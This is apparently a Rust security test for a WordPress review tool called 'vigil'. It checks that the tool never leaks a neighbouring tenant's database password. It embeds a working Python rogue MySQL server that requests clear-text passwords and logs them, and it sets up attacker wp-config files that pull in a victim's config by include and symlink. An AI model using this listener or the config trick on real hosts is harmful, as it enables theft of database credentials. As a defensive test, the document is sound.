//! Issue 13, item 3, performed for real: one site owner tries to get a
//! neighbour's database password out of `vigil review --offline`.
//!
//! Two throwaway accounts are created: the victim, whose `wp-config.php` only
//! it can read and whose database is a real MariaDB run as the `mysql` user on
//! a unix socket; and the attacker, who runs a rogue MySQL-protocol listener
//! (TCP on loopback and a unix socket) that asks for `mysql_clear_password`
//! and records every byte. The attacker's sites point `DB_HOST` at that
//! listener and pull the victim's config in (by path and through a symlink),
//! or use their own credentials. The live review must not follow the
//! includes (and say so), must not connect to the listener at all, must list
//! the victim's administrators from the real server, and must never print a
//! password. A last part shows the listener is a real threat: the plain
//! client hands it the password; with vigil's client options it does not.
#![allow(clippy::disallowed_methods, reason = "tests build and inspect fixtures with std::fs")]
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "test helpers: a failed setup should panic")]

mod support;

use std::path::{Path, PathBuf};
use std::process::{Child, Command};

use serde_json::Value;
use vigil_testkit::mariadb::MariaDb;
use vigil_testkit::{free_port, ok, wait_for};

const VICTIM_PW: &str = "Victim-Secret-9f3k2";
const ATTACKER_PW: &str = "Attacker-Own-Pw-77q";

/// The rogue server: handshake (asking for `mysql_clear_password`, and switching to it), logs all it gets.
const ROGUE: &str = r#"
import os, socket, struct, sys, threading
port, sock_path, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
lock = threading.Lock()
def note(b):
    with lock, open(log, "ab") as f:
        f.write(b + b"\n")
def pkt(seq, body): return struct.pack("<I", len(body))[:3] + bytes([seq]) + body
def read(c):
    h = b""
    while len(h) < 4:
        d = c.recv(4 - len(h))
        if not d: return None, b""
        h += d
    n = h[0] | h[1] << 8 | h[2] << 16
    b = b""
    while len(b) < n:
        d = c.recv(n - len(b))
        if not d: break
        b += d
    return h[3], b
def serve(c):
    note(b"CONNECT")
    s = b"abcdefghijklmnopqrst"
    caps = 0x0000a20f | 0x00080000 | 0x00008000 | 0x00000200
    hello = bytes([10]) + b"5.5.5-10.11.0-rogue\0" + struct.pack("<I", 7) + s[:8] + b"\0" \
        + struct.pack("<H", caps & 0xffff) + bytes([33]) + struct.pack("<H", 2) + struct.pack("<H", caps >> 16) \
        + bytes([21]) + b"\0" * 10 + s[8:] + b"\0" + b"mysql_clear_password\0"
    try:
        c.sendall(pkt(0, hello))
        seq, r = read(c)
        note(b"GOT " + r)
        c.sendall(pkt((seq or 0) + 1, b"\xfemysql_clear_password\0"))
        seq, r = read(c)
        note(b"GOT " + r)
    except Exception as e:
        note(b"ERR " + repr(e).encode())
    c.close()
def loop(l):
    while True:
        c, _ = l.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()
t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
t.bind(("127.0.0.1", port)); t.listen(8)
u = socket.socket(socket.AF_UNIX); u.bind(sock_path); u.listen(8)
os.chmod(sock_path, 0o777)
threading.Thread(target=loop, args=(u,), daemon=True).start()
open(log + ".ready", "w").close()
loop(t)
"#;

/// Everything the attack needs; stopped and removed on drop.
struct Lab {
    dir: PathBuf,
    attacker: String,
    victim: String,
    db: Option<MariaDb>,
    rogue: Option<Child>,
    /// The same listener run by root on a root-owned socket: not a database server either.
    root_rogue: Option<Child>,
    port: u16,
}

impl Lab {
    fn p(&self, rel: &str) -> String {
        self.dir.join(rel).display().to_string()
    }

    fn db_sock(&self) -> String {
        self.db.as_ref().map(|d| d.sock.clone()).unwrap_or_default()
    }

    fn rogue_sock(&self) -> String {
        self.p("atk/rogue.sock")
    }

    fn rogue_log(&self) -> String {
        // Binary protocol bytes: lossy, so a password in them is still found.
        String::from_utf8_lossy(&std::fs::read(self.p("atk/log")).unwrap_or_default()).into_owned()
    }

    /// A site owned by `owner` with this `wp-config.php` (mode 0600).
    fn site(&self, name: &str, owner: &str, config: &str) -> String {
        let d = self.p(&format!("www/{name}"));
        std::fs::create_dir_all(format!("{d}/wp-includes")).unwrap();
        std::fs::write(format!("{d}/wp-includes/version.php"), "<?php\n$wp_version = '6.4.2';\n").unwrap();
        std::fs::write(format!("{d}/wp-config.php"), config).unwrap();
        ok(&format!("chown -R {owner}:{owner} {d} && chmod 600 {d}/wp-config.php && chmod 755 {d}"));
        d
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        for mut r in [self.rogue.take(), self.root_rogue.take()].into_iter().flatten() {
            let _ = r.kill();
            let _ = r.wait();
        }
        if let Some(mut db) = self.db.take() {
            db.shutdown();
        }
        for u in [&self.attacker, &self.victim] {
            let _ = Command::new("userdel").arg(u).status();
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn setup() -> Lab {
    let n = std::process::id() % 100_000;
    let dir = PathBuf::from(format!("/tmp/vigil-creds-{n}"));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mut lab = Lab {
        dir: dir.clone(),
        attacker: format!("vgatk{n}"),
        victim: format!("vgvic{n}"),
        db: None,
        rogue: None,
        root_rogue: None,
        port: free_port(),
    };
    for u in [&lab.attacker, &lab.victim] {
        let _ = Command::new("userdel").arg(u).stderr(std::process::Stdio::null()).status();
        ok(&format!("useradd --no-create-home --user-group --shell /usr/sbin/nologin {u}"));
    }
    ok(&format!("chmod 755 {0} && mkdir -p {0}/www {0}/atk && chmod 755 {0}/www", dir.display()));

    // The real database: MariaDB run as mysql, on a socket in a directory only mysql controls.
    let db = MariaDb::start(&dir.join("db"), "mysql", false);
    db.sql(
        "CREATE DATABASE vdb; USE vdb; \
         CREATE TABLE wp_users (ID INT PRIMARY KEY, user_login VARCHAR(60)); \
         CREATE TABLE wp_usermeta (user_id INT, meta_key VARCHAR(255), meta_value TEXT); \
         INSERT INTO wp_users VALUES (1, 'vic-admin'), (2, 'vic-editor'); \
         INSERT INTO wp_usermeta VALUES (1, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}'), \
         (2, 'wp_capabilities', 'a:1:{s:6:\"editor\";b:1;}');",
    );
    db.sql(&format!(
        "CREATE USER 'vuser'@'localhost' IDENTIFIED BY '{VICTIM_PW}'; GRANT SELECT ON vdb.* TO 'vuser'@'localhost';"
    ));
    lab.db = Some(db);

    // The rogue listener, run by the attacker.
    let script = lab.p("rogue.py");
    std::fs::write(&script, ROGUE).unwrap();
    ok(&format!("chown {0}:{0} {1}/atk && chmod 755 {1}/atk", lab.attacker, dir.display()));
    let log = lab.p("atk/log");
    lab.rogue = Some(
        Command::new("setpriv")
            .args([
                &format!("--reuid={}", lab.attacker),
                &format!("--regid={}", lab.attacker),
                "--clear-groups",
                "/usr/bin/python3",
                &script,
                &lab.port.to_string(),
                &lab.rogue_sock(),
                &log,
            ])
            .spawn()
            .unwrap(),
    );
    wait_for("the rogue listener", || Path::new(&format!("{log}.ready")).exists());
    ok(&format!("mkdir -m 755 {}/rootsock", dir.display()));
    let root_log = lab.p("rootsock/log");
    lab.root_rogue = Some(
        Command::new("/usr/bin/python3")
            .args([&script, &free_port().to_string(), &lab.p("rootsock/r.sock"), &root_log])
            .spawn()
            .unwrap(),
    );
    wait_for("root's listener", || Path::new(&format!("{root_log}.ready")).exists());

    // The sites.
    let sock = lab.db_sock();
    let victim_cfg = lab.site(
        "victim",
        &lab.victim.clone(),
        &format!(
            "<?php\ndefine('DB_NAME', 'vdb');\ndefine('DB_USER', 'vuser');\ndefine('DB_PASSWORD', '{VICTIM_PW}');\n\
             define('DB_HOST', 'localhost:{sock}');\n$table_prefix = 'wp_';\n"
        ),
    ) + "/wp-config.php";
    let attacker = lab.attacker.clone();
    let port = lab.port;
    let rogue_sock = lab.rogue_sock();
    lab.site(
        "atk-include",
        &attacker,
        &format!("<?php\ndefine('DB_HOST', '127.0.0.1:{port}');\nrequire_once '{victim_cfg}';\n"),
    );
    let linked = lab.site(
        "atk-symlink",
        &attacker,
        &format!("<?php\ndefine('DB_HOST', 'localhost:{rogue_sock}');\nrequire_once __DIR__ . '/db.php';\n"),
    );
    std::os::unix::fs::symlink(&victim_cfg, format!("{linked}/db.php")).unwrap();
    ok(&format!("chown -h {attacker}:{attacker} {linked}/db.php"));
    for (name, host) in [
        ("atk-own-tcp", format!("127.0.0.1:{port}")),
        ("atk-own-sock", format!("localhost:{rogue_sock}")),
        ("atk-root-sock", format!("localhost:{}", lab.p("rootsock/r.sock"))),
    ] {
        lab.site(
            name,
            &attacker,
            &format!(
                "<?php\ndefine('DB_NAME', 'vdb');\ndefine('DB_USER', 'vuser');\ndefine('DB_PASSWORD', '{ATTACKER_PW}');\n\
                 define('DB_HOST', '{host}');\n"
            ),
        );
    }
    std::fs::write(lab.p("config.toml"), format!("[wordpress]\nweb_roots = [\"{}\"]\n", lab.p("www"))).unwrap();
    lab
}

/// Every file under `dir`, as text.
fn all_text(dir: &Path) -> String {
    let mut out = String::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.push_str(&all_text(&p));
        } else {
            out.push_str(&String::from_utf8_lossy(&std::fs::read(&p).unwrap_or_default()));
        }
    }
    out
}

#[test]
#[cfg_attr(
    any(
        vigil_missing = "root",
        vigil_missing = "user:mysql",
        vigil_missing = "/usr/bin/python3",
        vigil_missing = "setpriv",
        vigil_missing = "useradd",
        vigil_missing = "userdel",
        vigil_missing = "@mariadb"
    ),
    ignore = "needs root, user:mysql, /usr/bin/python3, setpriv, useradd, userdel, MariaDB (.ci/packages/wpcreds.txt)"
)]
fn a_neighbours_password_never_reaches_a_tenants_listener() {
    vigil_testkit::require(&["root", "user:mysql", "/usr/bin/python3", "setpriv", "useradd", "userdel", "@mariadb"]);
    let lab = setup();
    let state = lab.dir.join("state");
    std::fs::create_dir_all(&state).unwrap();
    let t = std::time::Instant::now();
    let run = support::run(
        support::vigil_cmd_at(
            &state,
            None,
            Path::new("/"),
            &["--config", &lab.p("config.toml"), "review", "--offline", "--format", "json"],
        ),
        "",
    );
    println!("TIMING live review --offline: {} ms", t.elapsed().as_millis());
    let out: Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("review output is not JSON ({e}): {}\n{}", run.stdout, run.stderr));

    // The listener got nothing: not even a connection.
    assert!(!lab.rogue_log().contains("CONNECT"), "vigil connected to the attacker's listener: {}", lab.rogue_log());
    // Root's non-database socket was connected to (to read its peer), and sent nothing.
    let root_log = String::from_utf8_lossy(&std::fs::read(lab.p("rootsock/log")).unwrap_or_default()).into_owned();
    assert!(root_log.contains("CONNECT") && !root_log.contains(ATTACKER_PW), "{root_log}: {}", run.stdout);
    assert!(root_log.lines().filter(|l| l.starts_with("GOT")).all(|l| l == "GOT "), "nothing was sent: {root_log}");

    let sites = out["facts"]["wordpress_inventory"]["sites"].as_array().expect("inventory facts");
    let site = |name: &str| {
        let path = lab.p(&format!("www/{name}"));
        sites.iter().find(|s| s["site"] == path.as_str()).unwrap_or_else(|| panic!("{name} not found: {sites:#?}"))
    };
    // The positive control: the victim's own site, on the real server, still gets its administrators.
    assert_eq!(site("victim")["admins"], serde_json::json!(["vic-admin"]), "{:#}", site("victim"));
    for (name, reason) in [
        ("atk-own-tcp", format!("127.0.0.1:{} is not the database server's listener", lab.port)),
        ("atk-own-sock", "not in a place only the database server controls".to_string()),
        ("atk-root-sock", "user root), not by a database server".to_string()),
        ("atk-include", format!("127.0.0.1:{} is not the database server's listener", lab.port)),
        ("atk-symlink", "not in a place only the database server controls".to_string()),
    ] {
        let why = site(name)["admins_unavailable"].as_str().unwrap_or_default().to_string();
        assert!(why.starts_with("not checked") && why.contains(&reason), "{name}: {why}");
        assert!(site(name)["admins"].is_null(), "{name}");
    }
    assert!(
        site("atk-own-tcp")["admins_unavailable"].as_str().unwrap().contains(&lab.attacker),
        "the reason names who owns the listener"
    );

    // The includes that were not followed are named, by path.
    let refused: Vec<&Value> = out["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["id"] == "credentials.config-include-refused")
        .collect();
    let victim_cfg = lab.p("www/victim/wp-config.php");
    for (name, path) in [("atk-include", victim_cfg.clone()), ("atk-symlink", lab.p("www/atk-symlink/db.php"))] {
        let subject = format!("{}: {path}", lab.p(&format!("www/{name}")));
        let f = refused
            .iter()
            .find(|f| f["subject"] == subject.as_str())
            .unwrap_or_else(|| panic!("{subject}: {refused:#?}"));
        assert_eq!(f["severity"], "high", "{f:#}");
        assert!(f.to_string().contains(&victim_cfg), "{f:#}");
    }

    // No password anywhere: output, errors, state.
    let everything = format!("{}{}{}", run.stdout, run.stderr, all_text(&state));
    for pw in [VICTIM_PW, ATTACKER_PW] {
        assert!(!everything.contains(pw), "a password appears in vigil's output or state");
    }

    // The listener is a real threat: the plain client hands it the password in clear text …
    let client = |extra: &[&str]| {
        let mut c = Command::new("mariadb");
        c.args(["--no-defaults", "--connect-timeout=3", "--protocol=TCP", "--host=127.0.0.1"])
            .arg(format!("--port={}", lab.port))
            .args(extra)
            .args(["--user=vuser", "-e", "SELECT 1"])
            .env("MYSQL_PWD", VICTIM_PW);
        c.output().unwrap()
    };
    let plain = client(&[]);
    assert!(
        lab.rogue_log().contains(VICTIM_PW),
        "control: the rogue asks for and gets clear text without the options: {plain:?} {}",
        lab.rogue_log()
    );
    // … and with vigil's client options it gets no password (the connection fails instead).
    std::fs::write(lab.p("atk/log"), "").unwrap();
    let hardened = client(&vigil_tools::wordpress::dbendpoint::CLIENT_HARDENING);
    assert!(lab.rogue_log().contains("CONNECT"), "the hardened client did connect: {}", lab.rogue_log());
    assert!(!lab.rogue_log().contains(VICTIM_PW), "vigil's client options refuse clear text");
    assert!(!hardened.status.success());
    assert!(String::from_utf8_lossy(&hardened.stderr).contains("mysql_clear_password"), "{hardened:?}");
}
